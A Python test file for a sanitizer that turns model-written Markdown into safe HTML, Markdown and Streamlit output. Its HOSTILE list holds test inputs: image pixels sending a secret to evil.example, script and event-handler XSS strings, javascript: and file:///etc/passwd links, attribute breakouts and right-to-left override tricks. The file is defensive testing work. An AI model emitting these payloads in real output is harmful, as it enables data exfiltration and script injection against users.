"""A model's Markdown: read into parts, and made anew for a page, a file and the web."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from core.ui.show import plain
from core.web.markdown import LONGEST, Block, Span, blocks
from core.web.rendering import FILE, Spelling, as_html, as_markdown, literal

EVERYTHING = """\
# Offers *today*

One **two *three*** `four`
five ~~six~~

| Offer | Price |
| :--- | ---: |
| A **fast** | 5 \\| 6 |
| `a\\|b` | [ours](https://example.com/a?b=1&c=2) |

1. first
   - nested
     1. deeper

        ```py
        x = "<b>"
        ```
   - [ ] to do
   - [x] done
2. second

> quoted
> - point

***

Bye.
"""


def shown(parts: tuple[Block, ...]) -> str:
    """All the words of some parts."""
    own = "".join(span.text for part in parts for span in part.spans)
    return own + "".join(shown(part.parts) for part in parts)


def test_every_part_is_read_for_what_it_is():
    found = blocks(EVERYTHING)
    kinds = [part.kind for part in found]
    assert kinds == ["heading", "paragraph", "table", "list", "quote", "rule", "paragraph"]
    head, para, table, listed, quote, *_ = found
    assert (head.level, head.spans[1]) == (1, Span("today", frozenset({"emphasis"})))
    assert Span("three", frozenset({"strong", "emphasis"})) in para.spans
    assert Span("four", frozenset({"code"})) in para.spans
    rows = [[shown((cell,)) for cell in row.parts] for row in table.parts]
    assert rows == [["Offer", "Price"], ["A fast", "5 | 6"], ["a|b", "ours"]]
    assert [cell.align for cell in table.parts[0].parts] == ["left", "right"]
    assert (listed.start, len(listed.parts)) == (1, 2)
    nested = listed.parts[0].parts[1]
    assert [item.ticked for item in nested.parts] == [None, False, True]
    deeper = nested.parts[0].parts[1]
    assert deeper.parts[0].parts[1] == Block("code", (Span('x = "<b>"'),))
    assert [part.kind for part in quote.parts] == ["paragraph", "list"]


def test_it_comes_out_as_the_same_in_html():
    said = as_html(blocks(EVERYTHING))
    for part in (
        "<h2>Offers <em>today</em></h2>",
        "<th style=text-align:right>Price</th>",
        "<td style=text-align:left>A <strong>fast</strong></td>",
        '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">ours</a>'
        " <span class=address>(https://example.com/a?b=1&amp;c=2)</span>",
        "<ol start=1><li><p>first</p>",
        "<pre>x = &quot;&lt;b&gt;&quot;</pre>",
        "<li class=box><p>☐ to do</p></li>",
        "<li class=box><p>☑ done</p></li>",
        "<blockquote><p>quoted</p>",
        "<s>six</s>",
    ):
        assert part in said


HOSTILE = [
    "![pixel](https://evil.example/?d=secret)",
    "[![pixel](https://evil.example/a)](https://evil.example/b)",
    "![p][i]\n\n[i]: https://evil.example/a",
    "<img src=https://evil.example/a onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<div>\n<b onclick=alert(1)>x</b>\n</div>",
    "a <a href='javascript:alert(1)'>x</a> b",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert`1`)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example) [w](/autonomous/docs)",
    "<javascript:alert(1)> <https://evil.example>",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](<https://a.example/" onmouseover="alert(1)>)',
    '[x](https://a.example/\\"><img/src=y>)',
    ":material/delete: :red[danger] :smile: $x^2$ $$y$$ :violet-badge[a]",
    "`:material/delete:` and `$x$`",
    "```mermaid\ngraph TD\n```",
    "abc \u202egnp.exe\u202c \u2066x\u2069 &#x202e;y [\u202ex](https://a.example/\u202ey)",
    "| a |\n|---|\n| <img src=x> ![y](https://evil.example) |",
    "- <img src=x>\n- ![y](https://evil.example)",
    "# <img src=x> ![y](https://evil.example)",
    "> <img src=x> ![y](https://evil.example)",
    "&lt;img src=x&gt; &amp;lt;b&amp;gt;",
    "\\<b\\> \\![x](https://evil.example)",
    "[a\\](https://evil.example) b](https://a.example)",
    "`` ` ``![x](https://evil.example)",
    "````\n```\n<img src=x>\n````\n![x](https://evil.example)",
    "a\n---\n1) b\n\n1. c\n2) d",
]


TAGS = {
    *("h1", "h2", "h3", "h4", "h5", "h6", "p", "pre", "code", "strong", "em", "s", "a", "span"),
    *("ul", "ol", "li", "blockquote", "div", "table", "thead", "tr", "th", "td", "hr"),
}


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.found.append((tag, dict(attrs)))


def test_tags_stay_text_and_none_of_it_is_lost():
    text = "<div>\nIn <b>bold</b>\n</div>\n\nand <i>so</i> on"
    said = as_html(blocks(text))
    for tag in ("div", "b", "i"):
        assert f"&lt;{tag}&gt;" in said
        assert f"&lt;/{tag}&gt;" in said
    assert "In " in said


@pytest.mark.parametrize("text", [*HOSTILE, EVERYTHING])
def test_no_model_makes_a_tag_or_an_image_of_its_own_in_html(text):
    tags = Tags()
    tags.feed(as_html(blocks(text)))
    for tag, attributes in tags.found:
        assert tag in TAGS
        assert {*attributes} <= {"href", "rel", "class", "start", "style"}
        assert re.match(r"https?://|mailto:", attributes.get("href") or "https://")


@pytest.mark.parametrize("text", [*HOSTILE, EVERYTHING])
@pytest.mark.parametrize(
    "look", [FILE, Spelling(plain, ("☐ ", "☑ "), below=3)], ids=["file", "page"]
)
def test_what_is_written_anew_reads_the_same_and_holds_no_image_or_tag(text, look):
    written = as_markdown(blocks(text), look)
    # As a reader that knows images, tags and links sees it.
    kinds = [
        each.type
        for token in MarkdownIt("commonmark").enable("table").parse(written)
        for each in [token, *(token.children or ())]
    ]
    assert not {"image", "html_inline", "html_block"} & {*kinds}
    links = re.findall(r"\]\(<([^>]*)>\)", written)
    assert all(re.match(r"https?://|mailto:", link) for link in links)
    assert "\u202e" not in written + as_html(blocks(text))


def test_a_link_is_shown_with_its_address():
    assert as_markdown(blocks("See [our **page**](https://a.example/b).")) == (
        "See [our **page**](<https://a.example/b>) (`https://a.example/b`)."
    )
    assert as_markdown(blocks("<https://a.example/b>")) == (
        "[https://a.example/b](<https://a.example/b>)"
    )
    assert as_markdown(blocks("[x](javascript:alert(1))")) == "x (`javascript:alert(1)`)"
    assert as_markdown(blocks("![a chart](https://a.example/c.png)")) == (
        "[a chart](<https://a.example/c.png>) (`https://a.example/c.png`)"
    )
    assert as_html(blocks("[x](data:text/html,y)")) == (
        "<p>x <span class=address>(data:text/html,y)</span></p>"
    )


def test_markdown_is_written_anew_as_it_was():
    assert as_markdown(blocks("- a\n- b\n  1. c\n  2. d\n\n* [ ] e\n* [x] f")) == (
        "- a\n- b\n  1. c\n  2. d\n\n* [ ] e\n* [x] f"
    )
    assert as_markdown(blocks("| a | b |\n|:-:|---|\n| 1<br>2 | `x\\|y` |")) == (
        "| a | b |\n| :-: | --- |\n| 1 / 2 | `x\\|y` |"
    )
    assert as_markdown(blocks("It costs $5 in file_name_1, a*b, 3. and # so.\n\n> q")) == (
        "It costs $5 in file_name_1, a\\*b, 3. and # so.\n\n> q"
    )


@given(st.text(alphabet="ab1 \n*_`#>-+.)[](){}<>&;|~=!:\\/\t\"'x$é"))
@example("1.\n#\n-\n>")
@example("a  \nb\\\nc")
def test_a_text_is_written_so_that_it_reads_as_it_stands(text):
    plainly = re.sub(r"[ \t]*\n[ \t]*", "\n", text.expandtabs(4)).strip()
    plainly = re.sub(r"\n+", "\n", plainly)
    found = blocks(literal(plainly))
    assert shown(found) == plainly.strip()
    assert {part.kind for part in found} <= {"paragraph"}


@given(st.text() | st.text(alphabet="ab \n*`#>-1.[](<|~!\\\t:"))
@example("* *\n")
@example(">")
@example("- ")
@example("1. - > # a")
def test_no_text_breaks_it(text):
    found = blocks(text)
    as_html(found)
    as_markdown(found)


@pytest.mark.parametrize(
    "piece",
    [
        "*",
        "**a ",
        "`",
        "[",
        "![",
        "[a](",
        "> ",
        "- ",
        "```\n",
        "|",
        "a|b\n-|-\n",
        "<",
        "***a**_",
        "[a]: b\n",
        "  - a\n",
        "\\",
    ],
)
def test_reading_takes_its_time_at_most_in_step_with_the_length(piece):
    text = piece * (LONGEST // 2 // len(piece))
    began = time.perf_counter()
    found = blocks(text)
    as_html(found)
    as_markdown(found)
    assert time.perf_counter() - began < 20
    assert blocks(text + "x" * LONGEST)[0].kind == "code"


def shown_on_a_page(text: str) -> AppTest:
    def page(text: str) -> None:
        from core.ui.components.markdown_view import read_view

        read_view(text)

    test = AppTest.from_function(page, args=(text,), default_timeout=30).run()
    assert not test.exception
    return test


def test_a_table_and_a_block_of_code_have_room_of_their_own_on_a_page():
    test = shown_on_a_page(
        EVERYTHING + "\n```\nx | y\n```\n\n| a | a |\n|---|---|\n| b \\| c | d |"
    )
    table, same_names = (each.value for each in test.table)
    assert list(table.columns) == ["Offer", "Price\u2060"]
    assert table.iloc[0, 0] == "A **fast**"
    assert table.iloc[1, 0] == "`a|b`"
    assert list(same_names.iloc[0]) == [r"b \| c", "d"]
    assert [code.value for code in test.code] == ["x | y"]
    words = "\n".join(part.value for part in test.markdown)
    for part in (
        "#### Offers *today*",
        "1. first\n   - nested\n     1. deeper",
        "- ☐ to do",
        "> - ",
    ):
        assert part in words


@pytest.mark.parametrize("text", HOSTILE)
def test_streamlits_own_words_do_nothing_on_a_page(text):
    test = shown_on_a_page(f"{text}\n\n- :streamlit: `:material/home:` $x$ :red[y]")
    words = "\n".join(part.value for part in test.markdown)
    assert ":material/" not in words
    assert ":streamlit:" not in words
    assert not re.search(r"(?<!\\)\$(?![^`\n]*`)|(?<!\\):red\[", words)
